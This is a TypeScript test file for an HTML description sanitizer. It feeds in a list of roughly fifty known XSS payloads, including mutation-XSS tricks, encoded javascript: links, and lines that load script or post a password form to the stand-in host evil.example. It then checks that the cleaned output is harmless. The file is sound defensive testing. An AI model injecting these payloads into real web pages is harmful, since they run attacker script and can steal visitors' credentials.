import fc from "fast-check";
import { expect, it } from "vitest";
import { cleanForReading, plainText, sanitizeDescription } from "./sanitize.ts";

/** From the cheat sheets: what has got through other people's sanitizers. */
const payloads = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert&#40;1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><img src=x onerror=alert(1)></template>",
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=data:text/html,<script>alert(1)</script>></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=//evil.example><input name=password><button>Log in</button></form>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example'; body{display:none}</style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  "<p onclick=alert(1) onmouseover='alert(1)' autofocus tabindex=1 onfocus=alert(1)>x</p>",
  "<a href=javascript:alert(1)>x</a>",
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/x">x</a>',
  "<a href='https://a.example' onclick=alert(1) target=_blank style=color:red id=x class=y>x</a>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<p title='</p><script>alert(1)</script>'>x",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "<b/onmouseover=alert(1)>x</b>",
  "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
  "<<script>alert(1)//<</script>",
  "<img src=`x`onerror=alert(1)>",
];

const tags = "p|br|h2|h3|h4|ul|ol|li|strong|b|em|i|u|s|blockquote|code|hr";
const harmless = new RegExp(
  `^(?:[^<>]|</?(?:${tags})(?: /)?>|</a>|<a(?: href="[^"<>]*")? rel="noopener nofollow ugc">)*$`,
  "i",
);

/** Where its links lead, as a browser reads them: entities, tabs and line ends gone. */
const schemesIn = (html: string) =>
  [...html.matchAll(/href="([^"]*)"/g)].map(([, href = ""]) => {
    const address = href.replace(/&(?:amp|lt|gt|quot);/g, (entity) => ENTITIES[entity] ?? entity);
    return URL.parse(address, "https://darasa.example")?.protocol ?? "none";
  });
const ENTITIES: Record<string, string> = { "&amp;": "&", "&lt;": "<", "&gt;": ">", "&quot;": '"' };
const safeSchemes = ["http:", "https:", "mailto:", "tel:", "none"];

function expectHarmless(clean: string): void {
  expect(clean).toMatch(harmless);
  for (const scheme of schemesIn(clean)) expect(safeSchemes).toContain(scheme);
}

it.each(payloads)("%j leaves structure and words alone (security.md T53)", (html) => {
  const clean = sanitizeDescription(html);
  expectHarmless(clean);
  expect(cleanForReading(html)).toBe(clean);
});

it("whatever they are made into, nothing else comes out, once cleaned and twice", () => {
  const piece = fc.oneof(
    fc.constantFrom(...payloads, "<p>", "</p>", '<a href="', '">', "<!--", "-->", "<", ">", "&lt;", "&#60;"),
    fc.string({ unit: "grapheme" }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
      const clean = sanitizeDescription(pieces.join(""));
      expectHarmless(clean);
      expectHarmless(sanitizeDescription(clean));
    }),
    { numRuns: 300 },
  );
});

it("what staff write with the editor stays as it is", () => {
  const written =
    '<h2>Plan</h2><p><strong>Work</strong> that <em>survives</em><br />rain</p><ul><li>Scope</li></ul><a href="https://a.example/?x=1&amp;y=2" rel="noopener nofollow ugc">more</a>';
  expect(sanitizeDescription(written)).toBe(written);
});

it("the words of a description are words, whatever they look like", () => {
  expect(plainText("<p>1 &lt; 2 &amp;lt; 3</p><p>next</p>")).toBe("1 < 2 &lt; 3 next");
});
